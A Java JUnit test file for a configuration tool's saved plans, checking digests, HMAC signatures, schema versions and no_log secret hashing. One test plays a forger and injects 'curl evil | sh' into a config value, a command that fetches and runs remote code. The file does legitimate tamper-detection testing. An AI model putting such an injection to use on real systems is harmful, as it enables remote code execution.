package io.pagetune.plan;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.ObjectMapper;
import io.pagetune.connection.RemoteCommand;
import io.pagetune.error.InputException;
import io.pagetune.executor.PlannedTask;
import io.pagetune.modules.FileDiff;
import io.pagetune.modules.Plan;
import io.pagetune.modules.Step;
import io.pagetune.state.Sha256;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The plan document: round trip, digest, schema version, and no_log tasks kept as hashes only. */
class SavedPlanTest {
  private static final Instant MADE = Instant.parse("2026-11-29T10:00:00Z");
  private static final PlanSigner KEY = new PlanSigner(key(1));

  private static byte[] key(int seed) {
    byte[] k = new byte[32];
    new java.util.Random(seed).nextBytes(k);
    return k;
  }

  @TempDir Path dir;

  private static PlanSource source() {
    return new PlanSource(
        "playbooks/site.yml",
        new java.util.TreeMap<>(Map.of("site.yml", "sha256:aa")),
        List.of("inventory/lab.yml"),
        "sha256:bb",
        "solaris_web",
        List.of("mpss"),
        List.of(),
        Map.of("sga_gb", 64L));
  }

  private static PlannedTask task(String name, boolean noLog, Step... steps) {
    Map<String, byte[]> host =
        Map.of("/etc/app.conf", "password=old\n".getBytes(StandardCharsets.UTF_8));
    return new PlannedTask(
        "web1",
        name,
        "site.yml:4:7",
        noLog,
        Plan.of(List.of(steps), List.of(new FileDiff("/etc/app.conf", "a", "b"))),
        List.of("web server https-web1 in window web-weeknights at 2026-12-01 22:00 CET"),
        List.of(),
        Map.of("os_family", "Solaris", "pages", Map.of("sizes", List.of(8192L, 4194304L))),
        path -> Optional.ofNullable(host.get(path)),
        Optional.of("root"),
        // run as the steps say: no task become or environment
        Stream.of(steps)
            .filter(s -> s instanceof Step.Exec)
            .map(s -> ((Step.Exec) s).command())
            .toList());
  }

  private static SavedPlan built(PlannedTask... tasks) {
    PlanBuilder builder = new PlanBuilder();
    for (PlannedTask t : tasks) {
      builder.planned(t);
    }
    return builder.build(MADE, "alice", "20261129T100000Z-abc123", source());
  }

  private static Step.Put put(String content) {
    return new Step.Put(
        "/etc/app.conf", content.getBytes(StandardCharsets.UTF_8), null, null, null, false);
  }

  @Test
  void aWrittenPlanReadsBackEqualWithItsDigest() {
    SavedPlan plan =
        built(
            task("conf", false, put("password=old\nlimit=1\n")), task("again", false, put("x\n")));
    SavedPlan written = new PlanWriter().write(plan, dir.resolve("p.plan"), KEY);
    SavedPlan read = PlanReader.read(dir.resolve("p.plan"));
    assertEquals(written, read);
    // numbers come back as the JSON reader types them; the document is the same
    assertEquals(new PlanWriter().toJson(written), new PlanWriter().toJson(read));
    assertTrue(read.digest().matches("sha256:[0-9a-f]{64}"), read.digest());
    HostPlan web1 = read.host("web1").orElseThrow();
    assertEquals("Solaris", web1.facts().get("os_family"));
    PlannedWrite first = web1.tasks().get(0).writes().get(0);
    assertEquals(
        Sha256.hex("password=old\n".getBytes(StandardCharsets.UTF_8)), first.beforeSha256());
    assertEquals("password=old\nlimit=1\n", first.after().text());
    assertTrue(first.diff().contains("+limit=1"), first.diff());
    // the second task starts from what the first one leaves, not from the host
    PlannedWrite second = web1.tasks().get(1).writes().get(0);
    assertEquals(first.afterSha256(), second.beforeSha256());
  }

  @Test
  void theDigestIgnoresLayoutButAnyChangedValueIsRefused() throws Exception {
    Path file = dir.resolve("p.plan");
    SavedPlan written = new PlanWriter().write(built(task("conf", false, put("a=1\n"))), file, KEY);
    String text = Files.readString(file);
    ObjectMapper json = new ObjectMapper();
    Files.writeString(file, json.writeValueAsString(json.readTree(text)));
    assertEquals(written, PlanReader.read(file), "compact layout, same plan");

    Files.writeString(file, text.replace("a=1", "a=2"));
    InputException e = assertThrows(InputException.class, () -> PlanReader.read(file));
    assertTrue(
        e.getMessage().startsWith(file + ":1:1: the plan does not match its digest"),
        e.getMessage());

    Files.writeString(file, text.replace("\"alice\"", "\"mallory\""));
    assertThrows(InputException.class, () -> PlanReader.read(file));
  }

  @Test
  void aPlanEditedAndDigestedAgainIsRefusedByItsSignatureWhichNoPlanFileCarries() throws Exception {
    Path file = dir.resolve("p.plan");
    new PlanWriter().write(built(task("conf", false, put("a=1\n"))), file, KEY);
    String text = Files.readString(file);
    assertTrue(text.contains("\"signature\" : \"hmac-sha256:"), text);
    assertEquals(1, PlanReader.read(file, KEY).hosts().size());

    // what a forger can do: edit, then put the digest of the edited content in the file
    ObjectMapper json = new ObjectMapper();
    com.fasterxml.jackson.databind.node.ObjectNode edited =
        (com.fasterxml.jackson.databind.node.ObjectNode)
            json.readTree(text.replace("a=1", "a=2; curl evil | sh"));
    edited.put("digest", PlanDigest.of(edited));
    Files.writeString(file, json.writeValueAsString(edited));
    assertEquals("alice", PlanReader.read(file).createdBy(), "the digest alone is satisfied");
    InputException e = assertThrows(InputException.class, () -> PlanReader.read(file, KEY));
    assertEquals(
        file
            + ":1:1: the plan is not signed by this state store (it was changed after it was"
            + " saved, or saved with another state store): make a new plan",
        e.getMessage());

    // the untouched plan, checked with another store's key
    new PlanWriter().write(built(task("conf", false, put("a=1\n"))), file, KEY);
    assertThrows(InputException.class, () -> PlanReader.read(file, new PlanSigner(key(2))));
    // and with the signature taken out
    edited = (com.fasterxml.jackson.databind.node.ObjectNode) json.readTree(Files.readString(file));
    edited.remove("signature");
    edited.put("digest", PlanDigest.of(edited));
    Files.writeString(file, json.writeValueAsString(edited));
    assertThrows(InputException.class, () -> PlanReader.read(file, KEY));
  }

  @Test
  void anUnknownSchemaVersionOrNotAPlanIsRefusedWithTheFileNamed() throws Exception {
    Path file = dir.resolve("p.plan");
    String text = new PlanWriter().toJson(built(task("conf", false, put("a=1\n"))));
    Files.writeString(file, text.replace("\"schema_version\" : 2", "\"schema_version\" : 9"));
    InputException e = assertThrows(InputException.class, () -> PlanReader.read(file));
    assertEquals(
        file + ":1:1: plan schema version 9 is not supported (this pagetune reads version 2)",
        e.getMessage());
    // a plan saved before plans were signed and bound their commands is refused by its version
    Files.writeString(file, text.replace("\"schema_version\" : 2", "\"schema_version\" : 1"));
    assertEquals(
        file
            + ":1:1: plan schema version 1 is not supported (this pagetune reads version 2):"
            + " make a new plan",
        assertThrows(InputException.class, () -> PlanReader.read(file)).getMessage());
    Files.writeString(file, "- not: json\n");
    assertTrue(
        assertThrows(InputException.class, () -> PlanReader.read(file))
            .getMessage()
            .contains("not a pagetune plan"));
    assertTrue(
        assertThrows(InputException.class, () -> PlanReader.read(dir.resolve("none.plan")))
            .getMessage()
            .endsWith("no such plan file"));
  }

  @Test
  void aNoLogTaskKeepsHashesOnlyAndHidesItsCommands() throws Exception {
    SavedPlan plan =
        built(
            task(
                "secret",
                true,
                put("password=hunter2\n"),
                Step.Exec.of(RemoteCommand.argv("chpasswd", "--token", "s3cr3t"), null)));
    Path file = dir.resolve("p.plan");
    new PlanWriter().write(plan, file, KEY);
    String text = Files.readString(file);
    assertFalse(text.contains("hunter2"), text);
    assertFalse(text.contains("password=old"), text);
    assertFalse(text.contains("s3cr3t"), text);
    TaskPlan t = PlanReader.read(file).host("web1").orElseThrow().tasks().get(0);
    PlannedWrite w = t.writes().get(0);
    assertNull(w.diff());
    assertNull(w.after().text());
    assertNull(w.after().base64());
    assertEquals(
        Sha256.hex("password=hunter2\n".getBytes(StandardCharsets.UTF_8)), w.afterSha256());
    assertEquals(List.of("write /etc/app.conf", "run a command (hidden: no_log)"), t.steps());
    String shown = PlanText.of(PlanReader.read(file));
    assertFalse(shown.contains("hunter2"), shown);
    assertTrue(shown.contains("(content hidden: no_log)"), shown);
  }

  @Test
  void secretExtraVarsAreKeptAsHashesAndMustBeGivenAgain() {
    Map<String, Object> kept = SecretVars.hashed(Map.of("sga_gb", "64", "db_password", "pw1"));
    assertEquals("64", kept.get("sga_gb"));
    assertFalse(String.valueOf(kept.get("db_password")).contains("pw1"));
    assertEquals(
        Map.of("sga_gb", "64", "db_password", "pw1"),
        SecretVars.restored(kept, Map.of("db_password", "pw1")));
    assertTrue(
        assertThrows(InputException.class, () -> SecretVars.restored(kept, Map.of()))
            .getMessage()
            .contains("give it again with -e db_password="));
    assertTrue(
        assertThrows(
                InputException.class, () -> SecretVars.restored(kept, Map.of("db_password", "pw2")))
            .getMessage()
            .contains("not the value the plan was made with"));
    assertThrows(
        InputException.class,
        () -> SecretVars.restored(kept, Map.of("db_password", "pw1", "sga_gb", "128")));
  }
}
